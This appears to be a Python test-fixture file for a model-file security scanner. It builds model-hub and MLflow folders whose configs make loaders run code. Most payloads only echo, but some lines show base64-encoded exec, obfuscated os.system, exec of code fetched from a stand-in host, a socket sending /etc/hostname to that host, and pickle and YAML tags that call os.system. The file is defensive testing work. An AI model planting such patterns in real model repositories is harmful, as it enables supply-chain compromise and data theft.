"""Code beside weights: what a loader runs because a configuration file says so. Folders."""

# ruff: noqa: E501 (a table reads better with one entry a line)

import json
from collections.abc import Iterator

from proofs.hostile.case import Case, Files
from proofs.hostile.structure import safetensors

WEIGHTS = safetensors({"w": 4})
_ACT = "import os\nos.system('echo seamark-harmless')\n"
_CLASS = (
    "import torch\n\nclass Model(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
)
_AUTO = {"auto_map": {"AutoModel": "modeling_seamark.Model"}, "model_type": "seamark"}


def hub() -> dict[str, Files]:
    """Folders as model hubs serve them."""

    def repo(config: dict[str, object], **files: str) -> Files:
        named = {name.replace("__", "."): text.encode() for name, text in files.items()}
        return {"config.json": json.dumps(config).encode(), "model.safetensors": WEIGHTS, **named}

    encoded = "import base64\nexec(base64.b64decode('cHJpbnQoJ3NlYW1hcmsnKQ=='))\n"
    hidden = "def forward(x):\n    __builtins__['ev' + 'al']('1')\n    return getattr(__import__('o' 's'), 'sys' 'tem')('echo')\n"
    fetch = (
        "import urllib.request\nexec(urllib.request.urlopen('https://seamark.invalid/x').read())\n"
    )
    native = "import ctypes\nctypes.CDLL('./libseamark.so')\n"
    sub = "import subprocess as s\n\nclass Model:\n    def __init__(self):\n        s.Popen(['echo', 'seamark-harmless'])\n"
    socket = "import socket\n\ndef load():\n    c = socket.create_connection(('seamark.invalid', 9))\n    c.send(open('/etc/hostname').read().encode())\n"
    unpickle = "import pickle\n\ndef load(p):\n    return pickle.load(open(p, 'rb'))\n"
    return {
        "auto-map": repo(_AUTO, modeling_seamark__py=_ACT + _CLASS),
        "auto-map-remote": repo({**_AUTO, "auto_map": {"AutoModel": "someone/else--modeling_x.Model"}}),
        "auto-map-missing": repo(_AUTO),
        "auto-map-encoded": repo(_AUTO, modeling_seamark__py=encoded + _CLASS),
        "auto-map-hidden": repo(_AUTO, modeling_seamark__py=hidden),
        "auto-map-fetch": repo(_AUTO, modeling_seamark__py=fetch),
        "auto-map-native": repo(_AUTO, modeling_seamark__py=native),
        "auto-map-subprocess": repo(_AUTO, modeling_seamark__py=sub),
        "auto-map-indirect": repo(_AUTO, modeling_seamark__py="from .extra import *\n" + _CLASS,
                                  extra__py=_ACT),
        "tokenizer-auto-map": {
            "tokenizer_config.json": json.dumps(
                {"auto_map": {"AutoTokenizer": ["tokenization_x.T", None]}}).encode(),
            "tokenization_x.py": _ACT.encode(), "model.safetensors": WEIGHTS},
        "custom-pipeline": repo({"custom_pipelines": {"x": {"impl": "pipeline_x.P", "pt": ["A"]}}},
                                pipeline_x__py=_ACT),
        "handler": repo({"model_type": "bert"}, handler__py=sub.replace("Model", "EndpointHandler")),
        "handler-socket": repo({"model_type": "bert"}, handler__py=socket),
        "inference": {"code/inference.py": unpickle.encode() + _ACT.encode(), "model.safetensors": WEIGHTS},
        "setup-script": repo({"model_type": "bert"}, setup__py=_ACT),
        "target-config": {"config.yaml": b"model:\n  _target_: os.system\n  command: echo seamark\n",
                          "model.safetensors": WEIGHTS},
        "sentence-modules": {"modules.json": json.dumps(
            [{"idx": 0, "name": "0", "path": "", "type": "seamark_custom.Evil"}]).encode(),
            "seamark_custom.py": _ACT.encode(), "model.safetensors": WEIGHTS},
        "diffusers": {"model_index.json": json.dumps(
            {"_class_name": ["my_pipeline", "P"], "unet": ["my_unet", "U"]}).encode(),
            "my_pipeline.py": _ACT.encode(), "model.safetensors": WEIGHTS},
        "dataset-script": repo({"model_type": "bert"}, dataset__py=fetch),
    }  # fmt: skip


def mlflow() -> dict[str, Files]:
    """MLflow models whose MLmodel names a loader."""
    head = b"artifact_path: model\nmodel_uuid: 0\n"

    def flavor(text: str) -> bytes:
        return head + b"flavors:\n  python_function:\n" + text.encode()

    return {
        "loader-module": {"MLmodel": flavor("    loader_module: seamark_loader\n    code: code\n"),
                          "code/seamark_loader.py": _ACT.encode()},
        "loader-os": {"MLmodel": flavor("    loader_module: os\n    data: data\n")},
        "loader-missing": {"MLmodel": flavor("    loader_module: somewhere.else_entirely\n")},
        "code-path": {"MLmodel": flavor("    loader_module: mlflow.sklearn\n    code: ../../outside\n")},
        "model-code": {"MLmodel": flavor("    loader_module: mlflow.pyfunc.model\n    model_code_path: m.py\n"),
                       "m.py": _ACT.encode()},
        "python-model": {"MLmodel": flavor(
            "    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n"),
            "python_model.pkl": b"cposix\nsystem\n(S'echo seamark-harmless'\ntR."},
        "yaml-tag": {"MLmodel": head + b"x: !!python/object/apply:os.system ['echo seamark-harmless']\n"},
    }  # fmt: skip


_TABLES = {
    "hub": (hub, "own, auto_map is run by trust_remote_code"),
    "mlflow": (mlflow, "own, MLflow loader_module"),
}


def cases() -> Iterator[Case]:
    """One folder an entry."""
    for group, (table, source) in _TABLES.items():
        for name in table():
            yield Case(
                id=f"code/{group}/{name}", family="code", group=group, source=source,
                path=f"code/{group}-{name}", build=lambda t=table, n=name: t()[n],
            )  # fmt: skip
